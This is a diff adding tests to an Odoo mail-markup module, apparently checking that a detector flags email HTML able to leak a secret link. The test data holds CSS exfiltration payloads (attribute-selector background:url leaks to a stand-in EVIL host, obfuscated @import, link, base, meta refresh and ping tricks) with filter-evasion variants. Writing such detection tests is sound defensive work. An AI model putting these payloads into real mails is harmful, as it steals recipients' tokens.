@@ -1,8 +1,10 @@
 """The link in a mail is the target of a link and is nowhere else, whatever the mail's template contains."""
 
+import time
+
 from odoo.tests import BaseCase, tagged
 
-from ..models.mail_markup import has_complete_tags, has_link, replace_link
+from ..models.mail_markup import find_unsafe_code, has_complete_tags, has_link, replace_link
 
 URL = "https://shop.example.com/my/sample"
 SECRET = "https://shop.example.com/my/secret"
@@ -20,6 +22,7 @@ class TestMailMarkup(BaseCase):
             "<input disabled value = x><img alt='>'\n/><o:p></o:p><t></t>%s",
         ):
             self.assertTrue(has_complete_tags(body % LINK))
+            self.assertFalse(find_unsafe_code(body % LINK))
             self.assertEqual(replace_link(body % LINK, URL, SECRET), body % LINK.replace(URL, SECRET))
 
     def test_links_areas_and_buttons_for_outlook_are_replaced(self):
@@ -83,3 +86,79 @@ class TestMailMarkup(BaseCase):
         ):
             with self.subTest(body):
                 self.assertFalse(has_complete_tags(body % LINK))
+
+    def test_a_style_sheet_that_loads_a_file_for_each_beginning_of_the_link_is_found(self):
+        for css, found in (
+            (f'a[href*="token=a"]{{background:url({EVIL}a)}}', '[href*="token=a"]'),
+            (f"td:has(> [ HREF $= 'a' i ]) {{background:url({EVIL}a)}}", "[ HREF $= 'a' i ]"),
+            (f"td {{& a[h\\72ef^=x] {{background:url({EVIL}a)}}}}", "[h\\72ef^=x]"),
+            (f"a[href/*]*/^='x'] {{background:url({EVIL}a)}}", "[href/*]"),
+            (f"a[href\n^='x'] {{background:url({EVIL}a)}}", "[href\n^='x']"),
+            (f"a[href='x{{background:url({EVIL}a)}}", "[href='x"),
+            (f"@import '{EVIL}'", "@import"),
+            (f"@\\69 MPORT '{EVIL}'", "@iMPORT"),
+            ("a::after {content: attr(href); font-family: leak}", "attr("),
+        ):
+            for body in (
+                f"<style>{css}</style>{LINK}",
+                f"{LINK}<STYLE\nmedia='all'>p {{}}</styles>{css}</STYLE >",
+                f"<!--[if mso]><style></style><style>{css}</style><![endif]-->{LINK}",
+                f"{LINK}<style>{css}",
+            ):
+                with self.subTest(body):
+                    self.assertTrue(has_complete_tags(body))
+                    self.assertEqual(find_unsafe_code(body), found)
+
+    def test_code_that_loads_a_style_sheet_or_sends_the_link_is_found(self):
+        for body, found in (
+            (f'<link rel="stylesheet" href="{EVIL}"/>', "<link"),
+            (f'<BASE href="{EVIL}">', "<BASE"),
+            (f'<meta content="0; url={EVIL}" http-equiv="refresh"/>', f'<meta content="0; url={EVIL}" http-equiv'),
+            ('<meta http-equiv="Content-Type" http-equiv=refresh>', '<meta http-equiv="Content-Type" http-equiv'),
+            ("<svg><style><![CDATA[</style>a[href^=x] {}]]></style></svg>", "<![CDATA["),
+            ("<svg><style>a&#91;href^=x] {}</style></svg>", "<svg"),
+            (f'<a title="x" ping="{EVIL}" href="{URL}">x</a>', '<a title="x" ping'),
+        ):
+            with self.subTest(body):
+                self.assertTrue(has_complete_tags(body))
+                self.assertEqual(find_unsafe_code(body + LINK), found)
+
+    def test_what_mails_commonly_contain_is_allowed(self):
+        for body in (
+            "<style>a[x-apple-data-detectors] {color: red} [data-ogsc] p {width: 100%\\9}</style>",
+            "<style><!--[if (gte mso 9)|(IE)]> p {} <![endif]--></style>",
+            '<meta charset="utf-8"/><meta http-equiv="Content-Type" content="text/html; charset=utf-8"/>',
+            "<meta http-equiv=X-UA-Compatible content='IE=edge'><meta name='viewport' content='width=1'>",
+            "<svg></svg><p title='[a=b] ping=x'>[a=b] @import</p><basefont><a title=' ping=x'>x</a>",
+        ):
+            with self.subTest(body):
+                self.assertEqual(find_unsafe_code(body + LINK), "")
+
+    def test_a_link_that_is_not_displayed_does_not_count(self):
+        for body in (
+            f"<!--{LINK}-->",
+            f"<!-- > {LINK}",
+            f"<!--[if mso]>{LINK}<![endif]-->",
+            f"<! {LINK}>",
+            f"<? {LINK}>",
+            f"</ {LINK}>",
+            f"</p title='{LINK}'>",
+            f"<title>{LINK}</title>",
+        ):
+            with self.subTest(body):
+                self.assertFalse(has_link(body, URL))
+                self.assertTrue(has_link(f"{LINK}{body}", URL))
+                self.assertEqual(replace_link(body, URL, SECRET), body.replace(URL, SECRET), "Outlook may display it")
+        for before in ("<!-->", "<!--->", "<!---->", "<!--x--!>", "<!--[if !mso]><!-->", "<!DOCTYPE html>", "</p>"):
+            with self.subTest(before):
+                self.assertTrue(has_link(f"{before}{LINK}<!-- -->", URL))
+
+    def test_a_long_mail_takes_no_longer_than_its_length_requires(self):
+        for body in (LINK * 6000, f"<style>{'[' * 300000}", "<!--" * 100000, f"<a{' x' * 100000}>", "<style>" * 40000):
+            with self.subTest(body[:20]):
+                start = time.process_time()
+                has_complete_tags(body)
+                find_unsafe_code(body)
+                has_link(body, URL)
+                replace_link(body, URL, SECRET)
+                self.assertLess(time.process_time() - start, 2)
